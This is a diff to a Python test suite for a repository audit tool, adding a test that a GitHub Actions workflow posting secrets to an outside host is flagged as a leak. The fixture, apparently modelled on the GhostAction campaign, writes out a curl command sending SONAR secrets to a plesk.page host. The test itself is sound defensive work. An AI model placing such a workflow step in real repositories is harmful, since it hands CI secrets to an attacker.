@@ -16,7 +16,7 @@ CONDA_EXPORT = ("name: itineraire\nchannels:\n  - conda-forge\n  - defaults\ndep
 # its pip freeze: packages built on the exporter's disk
 PIP_FREEZE = "".join(f"{n} @ file:///tmp/build/80754af9/{n.lower()}_16325080{i:02d}186/work\n" for i, n in enumerate(
                      ("alabaster", "anyio", "argon2-cffi", "Babel", "backcall", "bleach", "certifi", "cffi", "chardet", "Flask", "oauthlib"))) + \
-             "aws-requests-auth==0.4.3\nosmnx==1.3.0\n"
+             "".join(f"pinned{i}==1.{i}.0\n" for i in range(14))  # (pinned ones too: parcours_a_la_carte's freeze has 138 of 301)
 FLASK_API = ("from flask import Flask, jsonify\nimport geopandas as gpd\n\napp = Flask(__name__)\n\n\n@app.route('/itinerary')\n"
              "def itinerary():\n    return jsonify({'titre': 'Itinéraire le plus frais'})\n")
 
@@ -208,3 +208,18 @@ def test_a_gitignore_in_an_empty_translations_folder_is_no_translation(tmp_path)
                              "translations/.gitignore": "", "templates/base.html.twig": "<h1>Observatoire photographique</h1>\n",
                              "src/Controller/HomeController.php": "<?php\nclass HomeController {}\n"})
     assert ok is False, p["evidence"]
+
+
+def test_a_workflow_posting_the_repositorys_secrets_to_a_host_is_a_leak(tmp_path):
+    """Shaped like datagora-erasme/itineraire_fraicheur's .github/workflows/github_actions_security.yml (GhostAction, 2025);
+    a service's own token sent to that service, or a secret in a header, is no such leak."""
+    ghost = ("name: Github Actions Security\non:\n  workflow_dispatch:\n  push:\njobs:\n  send-secrets:\n    runs-on: ubuntu-latest\n    steps:\n"
+             "      - name: Github Actions Security\n        run: |\n"
+             "          curl -s -X POST -d 'SONAR_HOST_URL=${{ secrets.SONAR_HOST_URL }}&SONAR_TOKEN=${{ secrets.SONAR_TOKEN }}' https://bold-dhawan.45-139-104-115.plesk.page\n")
+    fine = ("name: ci\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
+            "      - run: curl -s -F token=${{ secrets.CODECOV_TOKEN }} -F file=@coverage.xml https://codecov.io/upload/v2\n"
+            "      - run: curl -X POST -H \"Authorization: Bearer ${{ secrets.DEPLOY_TOKEN }}\" -d '{\"ref\": \"main\"}' https://api.example.org/deploy\n")
+    path = build(tmp_path / "r", {"backend/app.py": FLASK_API, ".github/workflows/github_actions_security.yml": ghost, ".github/workflows/ci.yml": fine})
+    s = results(run_audit(path, tmp_path / "c", ["reusability.secrets"]))["reusability.secrets"]
+    assert s["status"] == "fail" and "outside host" in s["message"]["en"] and "hôte extérieur" in s["message"]["fr"], s
+    assert {(e["path"], e["line"]) for e in s["evidence"]} == {(".github/workflows/github_actions_security.yml", 11)}, s["evidence"]
